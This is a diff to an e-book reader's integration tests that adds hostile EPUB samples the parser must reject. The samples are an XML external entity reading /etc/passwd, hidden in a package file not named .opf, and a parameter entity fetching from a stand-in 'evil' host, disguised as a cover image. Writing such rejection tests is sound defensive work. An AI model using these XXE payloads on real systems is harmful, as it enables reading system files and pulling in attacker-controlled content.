@@ -13,7 +13,7 @@ from reader.errors import UnreadableFile, UnsafeFile, UnsupportedFormat
 from reader.service_layer.ingest import SubmittedMetadata
 from sachso.events.v1 import reader_events_pb2
 from tests.corpus import CORPUS
-from tests.crafted import CHAPTER, epub_bytes
+from tests.crafted import CHAPTER, PACKAGE, container, epub_bytes
 from tests.integration.reader.conftest import ReaderUnderTest
 
 pytestmark = pytest.mark.integration
@@ -81,6 +81,22 @@ HOSTILE: dict[str, tuple[bytes, type[Exception], str]] = {
         ),
         UnsafeFile,
         "external entity",
+    ),
+    "external entity in a package document not named .opf": (
+        epub_bytes(
+            container=container("OPS/package.dat"),
+            opf_path="OPS/package.dat",
+            opf=PACKAGE.replace(
+                b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+            ).replace(b"<dc:language>vi", b"<dc:language>&e;vi"),
+        ),
+        UnsafeFile,
+        "OPS/package.dat: declares the external entity",
+    ),
+    "parameter entity in an entry named like a picture": (
+        epub_bytes([("OPS/cover.jpg", b'\xef\xbb\xbf <!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x">%p;]><x/>')]),
+        UnsafeFile,
+        "OPS/cover.jpg: declares the parameter entity",
     ),
     "billion laughs": (
         epub_bytes(
